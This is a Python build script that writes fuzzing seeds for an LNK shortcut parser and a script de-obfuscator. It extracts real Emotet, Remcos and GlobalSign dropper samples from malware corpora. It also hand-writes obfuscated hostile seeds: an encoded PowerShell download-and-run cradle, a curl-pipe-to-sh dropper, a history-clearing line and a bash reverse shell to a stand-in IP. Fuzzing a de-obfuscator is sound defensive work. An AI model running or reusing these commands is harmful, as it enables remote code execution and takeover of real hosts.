#!/usr/bin/env python3
"""Seeds for lnk_fuzz and script_fuzz, written into the build tree (never the repository).

Usage: lnk_script_fuzz_seeds.py LNK_DIR SCRIPT_DIR CORPORA_DIR

LNK seeds: plaso's shortcuts and the GlobalSign campaign's shortcut from InQuest's zip.
Script seeds: InQuest's PowerShell and VBScript droppers, and a few hand-written samples of each
layer the de-obfuscator peels; script_fuzz reads the first byte as the language
(0 PowerShell, 1 VBScript, 2 JScript, 3 batch, 4 HTML, 5 command line).
"""
import base64
import os
import shutil
import subprocess
import sys
import zipfile

lnk_dir, script_dir, corpora = sys.argv[1], sys.argv[2], sys.argv[3]
os.makedirs(lnk_dir, exist_ok=True)
os.makedirs(script_dir, exist_ok=True)

plaso = os.path.join(corpora, "plaso-test-data", "test_data")
for name in ("NeroInfoTool.lnk", "example.lnk", "unpaired_surrogate.lnk"):
    if os.path.exists(os.path.join(plaso, name)):
        shutil.copy(os.path.join(plaso, name), os.path.join(lnk_dir, name))


def members(zip_name, wanted):
    path = os.path.join(corpora, "inquest-docs", zip_name)
    if not os.path.exists(path):
        return
    with zipfile.ZipFile(path) as z:
        for info in z.infolist():
            if wanted(info.filename) and info.file_size < 1_000_000:
                yield info.filename, z.read(info, pwd=b"infected")


for name, data in members("2020-07-GlobalSign.zip", lambda n: n.endswith("system_lnk")):
    open(os.path.join(lnk_dir, "globalsign.lnk"), "wb").write(data)

# A DestList stream of each layout (Windows 7's version 1, Windows 10's version 4).
here = os.path.dirname(os.path.abspath(__file__))
for version in (1, 4):
    spec = os.path.join(lnk_dir, "destlist%d.json" % version)
    with open(spec, "w") as handle:
        handle.write('{"version": %d, "entries": [{"number": 1, "last_used": "2026-11-20T09:15:00Z", "count": 3, '
                     '"host": "taro-pc", "path": "E:\\\\invoice.pdf.exe"}, {"number": 2, "last_used": '
                     '"2026-10-01T08:00:00Z", "pinned": true, "path": "C:\\\\x.txt"}]}' % version)
    subprocess.run([sys.executable, os.path.join(here, "..", "support", "make_destlist.py"),
                    os.path.join(lnk_dir, "DestList%d" % version), spec], check=True, capture_output=True)
    os.remove(spec)

seeds = {}
for name, data in members("2019-06-Emotet-Droppers.zip", lambda n: "unique_powershell/" in n):
    seeds["emotet_" + os.path.basename(name)[:8]] = b"\x00" + data
for name, data in members("2019-03-PowerShell-Obfuscation-Encryption-Steganography.zip",
                          lambda n: n.endswith(".ps1.bin")):
    seeds["stego_" + os.path.basename(name).split(".")[0]] = b"\x00" + data
for name, data in members("2020-07-Remcos.zip", lambda n: n.endswith(".vbs")):
    seeds["remcos_vbs"] = b"\x01" + data
for name, data in members("2020-07-GlobalSign.zip", lambda n: n.endswith("_vbs")):
    seeds["globalsign_vbs"] = b"\x01" + data

cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/p.ps1')"
encoded = base64.b64encode(cradle.encode("utf-16-le")).decode()
seeds["cmd_enc"] = b"\x05" + ("powershell -nop -w hidden -enc " + encoded).encode()
seeds["vbs_chr"] = b"\x01" + b'c = "pow" & Chr(101) & StrReverse("llehsr") & " -e ' + encoded.encode() + b'"\r\nExecute("CreateObject(""WScript.Shell"").Run c")\r\n'
seeds["js_fromcharcode"] = b"\x02" + b"var u = String.fromCharCode(104,116,116,112) + unescape('%3A//a.example'); eval('x' + 'y'); 'exe.dmc'.split('').reverse().join('');"
seeds["bat_vars"] = b"\x03" + b"@echo off\r\nset a=pow\r\nset \"b=ershell\"\r\nc^m^d /c %a%%b% -c \"iex 1\"\r\necho %comspec:~-16,1%\r\n"
seeds["hta_blocks"] = b"\x04" + b'<html><script language="VBScript">s = Chr(65) & "b"</script><script>document.write(unescape("%3Cscript%3Ex=1%3C/script%3E"))</script></html>'
seeds["ps_format"] = b"\x00" + b"&(\"{1}{0}\" -f 'ex','i') ((('a'+'b') -replace 'b','c') + [char]72 + -join ('x','y'))"
seeds["vbe"] = b"\x01" + b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
seeds["sh_dropper"] = b"\x06" + (b"#!/bin/sh\ncurl -s http://a.example/i.sh | sh\necho " + base64.b64encode(b"history -c\n") +
                                 b" | base64 -d | bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
for name, data in seeds.items():
    open(os.path.join(script_dir, name), "wb").write(data)
